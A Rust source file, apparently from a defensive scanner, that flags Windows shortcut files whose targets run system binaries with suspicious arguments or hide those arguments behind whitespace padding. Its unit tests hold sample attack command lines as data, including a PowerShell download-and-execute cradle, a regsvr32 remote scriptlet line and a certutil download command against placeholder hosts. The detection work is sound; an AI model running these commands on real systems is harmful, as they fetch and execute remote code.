//! Judgement of a parsed link: LOLBin targets with suspicious arguments,
//! and arguments padded out of sight.

use counterspy_model::{Finding, FindingKind, Technique};

use crate::Link;
use crate::lolbin::{
    DIALOG_CHARS, LOLBINS, MIN_BASE64_BLOB, PADDING_RUN,
    SUSPICIOUS_SUBSTRINGS, SUSPICIOUS_SWITCHES,
};

/// A LOLBin the link runs, and why its arguments are suspicious.
pub(crate) struct Lolbin {
    pub(crate) name: &'static str,
    pub(crate) technique: &'static str,
    pub(crate) reasons: Vec<&'static str>,
}

/// The LOLBin among the link's target candidates, if any.
pub(crate) fn lolbin(link: &Link) -> Option<Lolbin> {
    let (name, technique) = link.target_candidates().iter().find_map(|t| {
        let file = file_name(t);
        LOLBINS.iter().find(|(n, _)| *n == file).copied()
    })?;
    let reasons =
        link.arguments.as_deref().map(suspicious_reasons).unwrap_or_default();
    Some(Lolbin { name, technique, reasons })
}

/// The lowercase file name of a path, without quotes.
fn file_name(path: &str) -> String {
    let path = path.trim().trim_matches('"');
    let name = path.rsplit(['\\', '/']).next().unwrap_or(path);
    name.to_ascii_lowercase()
}

/// Why `args` are suspicious, deduplicated, in table order.
pub(crate) fn suspicious_reasons(args: &str) -> Vec<&'static str> {
    let collapsed = collapse(args);
    let lower = collapsed.to_ascii_lowercase();
    let tokens: Vec<&str> =
        lower.split(' ').map(|t| t.trim_matches(['"', '\''])).collect();
    let mut reasons: Vec<&'static str> = Vec::new();
    let mut add = |r: &'static str| {
        if !reasons.contains(&r) {
            reasons.push(r);
        }
    };
    SUSPICIOUS_SUBSTRINGS
        .iter()
        .filter(|(p, _)| lower.contains(p))
        .for_each(|(_, r)| add(r));
    switch_reasons(&tokens).into_iter().for_each(&mut add);
    if chains_another_lolbin(&tokens) {
        add("chained system binary");
    }
    if collapsed.split(' ').any(is_base64_blob) {
        add("base64 blob");
    }
    reasons
}

fn switch_reasons(tokens: &[&str]) -> Vec<&'static str> {
    let mut out = Vec::new();
    for (i, token) in tokens.iter().enumerate() {
        let Some(name) = token.strip_prefix(['-', '/']) else { continue };
        let next = tokens.get(i.saturating_add(1)).copied().unwrap_or("");
        for s in SUSPICIOUS_SWITCHES {
            let named = name.len() >= s.min && s.name.starts_with(name);
            if named && s.values.is_none_or(|v| v.contains(&next)) {
                out.push(s.reason);
            }
        }
    }
    out
}

/// Whether a token names another LOLBin (`cmd /c powershell …`).
fn chains_another_lolbin(tokens: &[&str]) -> bool {
    tokens.iter().any(|t| {
        let file = file_name(t);
        LOLBINS.iter().any(|(n, _)| {
            let stem = n.trim_end_matches(".exe");
            file == *n
                || (file == stem && stem != "control" && stem != "explorer")
        })
    })
}

fn is_base64_blob(token: &str) -> bool {
    let chars = |f: fn(&u8) -> bool| token.as_bytes().iter().any(f);
    token.len() >= MIN_BASE64_BLOB
        && token.bytes().all(|b| {
            b.is_ascii_alphanumeric() || matches!(b, b'+' | b'/' | b'=')
        })
        && chars(u8::is_ascii_uppercase)
        && chars(u8::is_ascii_lowercase)
}

/// Whitespace runs collapsed to one space, trimmed.
pub(crate) fn collapse(s: &str) -> String {
    s.split_whitespace().collect::<Vec<_>>().join(" ")
}

/// The LnkLolbin finding, when the arguments are suspicious.
pub(crate) fn lolbin_finding(link: &Link, bin: &Lolbin) -> Option<Finding> {
    if bin.reasons.is_empty() {
        return None;
    }
    let mut message = format!(
        "shortcut runs {} with suspicious arguments ({})",
        bin.name,
        bin.reasons.join(", ")
    );
    append_machine(&mut message, link);
    let args = collapse(link.arguments.as_deref().unwrap_or_default());
    let finding = Finding::new(FindingKind::LnkLolbin, message).excerpt(args);
    Some(finding.technique(Technique::parse(bin.technique)))
}

/// How the arguments hide behind whitespace, if they do.
pub(crate) fn padding_finding(link: &Link) -> Option<Finding> {
    let args = link.arguments.as_deref()?;
    let content = args.trim();
    if content.is_empty() {
        return None;
    }
    let longest = longest_whitespace_run(args);
    let leading = args.chars().take_while(|c| c.is_whitespace()).count();
    let target = link.target().map_or(0, |t| t.chars().count());
    let pushed = leading > 0
        && target.saturating_add(1).saturating_add(leading) >= DIALOG_CHARS;
    if longest < PADDING_RUN && !pushed {
        return None;
    }
    let mut message = format!(
        "shortcut arguments padded with a run of {longest} whitespace \
         characters ({leading} leading); the properties dialog shows only \
         the first {DIALOG_CHARS} characters of target and arguments"
    );
    append_machine(&mut message, link);
    Some(
        Finding::new(FindingKind::LnkPadding, message)
            .excerpt(collapse(content)),
    )
}

fn longest_whitespace_run(s: &str) -> usize {
    let (mut best, mut run) = (0usize, 0usize);
    for c in s.chars() {
        run = if c.is_whitespace() { run.saturating_add(1) } else { 0 };
        best = best.max(run);
    }
    best
}

fn append_machine(message: &mut String, link: &Link) {
    if let Some(machine) = &link.machine_id {
        message.push_str(&format!("; made on machine {machine:?}"));
    }
}

#[cfg(test)]
mod tests {
    use super::*;

    #[test]
    fn powershell_cradles() {
        let r = suspicious_reasons("-w hidden -enc SQBFAFgA");
        assert_eq!(r, ["hidden window", "encoded command"]);
        let r = suspicious_reasons(
            "-NoP -W Hidden -c \"IEX (New-Object Net.WebClient)\
             .DownloadString('http://x/a')\"",
        );
        assert_eq!(
            r,
            ["URL", "download cradle", "invoke-expression", "hidden window"]
        );
        assert_eq!(
            suspicious_reasons("-ExecutionPolicy Bypass -File a.ps1"),
            ["execution policy bypass"]
        );
        assert_eq!(
            suspicious_reasons("-EncodedCommand x"),
            ["encoded command"]
        );
        assert_eq!(suspicious_reasons("-ec x"), ["encoded command"]);
    }

    #[test]
    fn other_lolbins() {
        assert_eq!(
            suspicious_reasons("/s /n /u /i:http://x/a.sct scrobj.dll"),
            ["URL", "scriptlet loader (scrobj.dll)"]
        );
        assert_eq!(
            suspicious_reasons("-urlcache -split -f http://x/a"),
            ["URL", "certutil download"]
        );
        assert_eq!(
            suspicious_reasons(
                "javascript:\"\\..\\mshtml,RunHTMLApplication\""
            ),
            ["javascript: URL"]
        );
        assert_eq!(
            suspicious_reasons("/c start powershell"),
            ["chained system binary"]
        );
        assert_eq!(
            suspicious_reasons("\\\\10.0.0.1\\share\\x.dll,Start"),
            ["UNC path"]
        );
        let blob = "SQBFAFgAIAAoAE4AZQB3AC0ATwBiAGoAZQBjAHQAIABOAGUAdAAu";
        assert_eq!(suspicious_reasons(blob), ["base64 blob"]);
    }

    #[test]
    fn benign_arguments() {
        for args in [
            r"C:\Users\Public\notes.txt",
            "-NoProfile -File C:\\scripts\\backup.ps1",
            "/select,C:\\Users",
            "-Encoding utf8",
            "shell32.dll,Control_RunDLL",
            "",
        ] {
            assert!(suspicious_reasons(args).is_empty(), "{args}");
        }
    }

    #[test]
    fn whitespace_runs() {
        assert_eq!(longest_whitespace_run("a  \t\n b"), 5);
        assert_eq!(longest_whitespace_run(""), 0);
        assert_eq!(collapse("  a \n b  "), "a b");
        assert_eq!(file_name("\"C:\\X\\PowerShell.EXE\""), "powershell.exe");
    }
}
